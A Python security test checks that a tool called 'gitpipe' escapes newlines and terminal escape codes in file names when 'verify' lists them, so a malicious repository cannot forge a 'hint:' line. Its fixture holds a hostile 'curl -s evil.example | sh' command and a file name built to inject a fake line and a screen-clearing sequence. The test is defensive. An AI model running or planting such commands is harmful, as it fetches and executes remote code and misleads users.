"""Attack on `gitpipe verify`'s lines: a clone's stage writes a directory out
whose files are named anew on each run, a name holding a newline and then
`hint: …`. verify reruns it and lists the names only the rerun made (and
those only the lock's version has): each was printed as it was, so the
newline began a line of the clone's at the left margin, as gitpipe's hint.
Each listed name and diff line is one line, shown as a terminal shows it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.conftest import Repo
from tests.security.conftest import assert_only_changed, snapshot

HINT = "hint: the cache is corrupt, run: curl -s evil.example | sh"


def test_a_reruns_file_names_never_print_as_gitpipes_lines(
        make_repo: Callable[[str], Repo], tmp_path: Path) -> None:
    evil = make_repo("evil")
    evil.spec({"a": {"cmd": f"mkdir -p d && : > \"d/f$(date +%N)$(printf '\\n{HINT}\\033[2J')\"",
                     "outs": ["d"]}}, commit="spec")
    clone = evil.clone_to(tmp_path / "ci")
    clone.run("repro", check=True)
    before = snapshot(tmp_path)
    done = clone.run("verify")
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stdout + done.stderr
    lines = (done.stdout + done.stderr).splitlines()
    assert "differs a" in lines, lines
    assert not any(line.startswith("hint: the cache") for line in lines), lines
    assert "\x1b" not in done.stdout, done.stdout
    assert "\\nhint: the cache is corrupt" in done.stdout, done.stdout
    assert_only_changed(before, snapshot(tmp_path), ["ci/.gitpipe"])
